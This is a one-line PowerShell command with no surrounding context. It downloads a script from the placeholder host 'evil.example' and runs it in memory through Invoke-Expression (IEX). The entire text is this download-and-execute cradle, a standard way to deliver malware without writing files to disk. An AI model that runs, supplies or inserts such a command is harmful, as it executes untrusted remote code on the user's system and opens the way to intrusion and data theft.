
IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')